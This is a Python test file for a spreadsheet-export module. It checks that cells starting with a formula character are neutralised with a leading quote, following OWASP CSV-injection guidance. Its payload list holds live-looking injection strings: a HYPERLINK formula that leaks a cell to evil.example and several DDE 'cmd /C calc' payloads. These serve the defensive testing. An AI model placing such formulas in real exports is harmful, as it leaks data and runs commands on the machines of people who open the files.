"""``petdx.study.spreadsheet``: formula-leading text is neutralised for spreadsheets (OWASP
CSV injection guidance; issue 19), numbers never are, and the quote comes off on import."""

from __future__ import annotations

import pytest
from hypothesis import given
from hypothesis import strategies as st

from petdx.study.spreadsheet import FORMULA_START, from_spreadsheet_text, spreadsheet_text

#: The audit's payloads and the OWASP page's examples.
PAYLOADS = [
    '+HYPERLINK("http://evil.example/?leak="&A1, "click")',
    "=cmd|' /C calc'!A0",
    "@SUM(1+9)*cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "=1+1",
    "\t=1+1",
    "\r=1+1",
    "-",
    "+",
]


@pytest.mark.parametrize("payload", PAYLOADS)
def test_formula_leading_text_gets_a_leading_quote(payload: str) -> None:
    assert spreadsheet_text(payload) == "'" + payload
    assert from_spreadsheet_text(spreadsheet_text(payload)) == payload


@pytest.mark.parametrize("number", ["-3", "-120.0", "+1.5e-3", "-.5", "-2E+10", "0", "42"])
def test_text_that_is_a_plain_number_stays_as_it_is(number: str) -> None:
    float(number)  # the independent check: Python reads it as a number
    assert spreadsheet_text(number) == number


@pytest.mark.parametrize(
    "text", ["staging CT", "a=b", "x-1", "", "'quoted", "2025-05-02", "-3 mm", "--", "-inf"]
)
def test_other_text_is_unchanged_unless_a_formula_character_leads(text: str) -> None:
    expected = "'" + text if text[:1] in FORMULA_START else text
    assert spreadsheet_text(text) == expected


def test_quoted_formulas_are_quoted_again_so_the_rule_can_be_undone() -> None:
    assert spreadsheet_text("'=x") == "''=x"
    assert from_spreadsheet_text("''=x") == "'=x"
    assert from_spreadsheet_text("'quoted") == "'quoted"  # no formula after the quote


@given(st.text(alphabet=st.sampled_from("'=+-@\t\r0123456789.eE xa|(")))
def test_the_quote_always_comes_off_and_no_cell_starts_a_formula(text: str) -> None:
    written = spreadsheet_text(text)
    assert from_spreadsheet_text(written) == text
    if written[:1] in FORMULA_START:  # only numbers may lead with a sign
        float(written)
